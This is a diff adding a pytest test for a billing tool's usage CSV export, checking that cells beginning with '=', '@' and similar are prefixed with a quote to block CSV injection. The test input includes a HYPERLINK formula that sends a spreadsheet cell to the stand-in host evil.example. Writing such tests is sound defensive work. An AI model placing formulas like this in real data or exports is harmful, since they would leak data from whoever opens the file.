@@ -323,3 +323,35 @@ async def test_upgrade_counts_the_estimated_calls_stored_at_bi0005_in_their_days
         await engine.dispose()
     [row] = report.rows
     assert (row.kind, row.requests, row.estimated) == ("call", 2, 1) and report.totals.estimated == 1
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(
+    sqlite_url: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A task published on the bus names its own `user_id` and `api_key_id` (bus contract): one starting
+    with `=`, `+`, `-`, `@` went into the usage CSV as it was, and a spreadsheet opening the billing team's
+    export runs it as a formula (CSV injection, OWASP). Such a cell is written with a leading `'`."""
+    asyncio.run(_seed(sqlite_url))
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'
+
+    async def seed_hostile() -> None:
+        engine = create_engine(sqlite_url)
+        try:
+            done = _done("t9", 5).model_copy(update={"user_id": hostile, "api_key_id": "@SUM(1+1)"})
+            await record_usage(
+                sessionmaker(engine),
+                event_id="e9",
+                completed=done,
+                policy=price_sheet(),
+                clock=lambda: datetime(2026, 11, 5, 9, tzinfo=UTC),
+            )
+        finally:
+            await engine.dispose()
+
+    asyncio.run(seed_hostile())
+    db = ["billing", "--database-url", sqlite_url, "usage", "--tenant", "acme"]
+    assert main([*db, "--from", "2026-11-01", "--to", "2026-11-30", "--group-by", "user,key", "--csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    cells = {(r["user"], r["key"]) for r in rows}
+    assert ("'" + hostile, "'@SUM(1+1)") in cells, cells
+    assert ("u1", "") in cells  # an ordinary id is written as it is
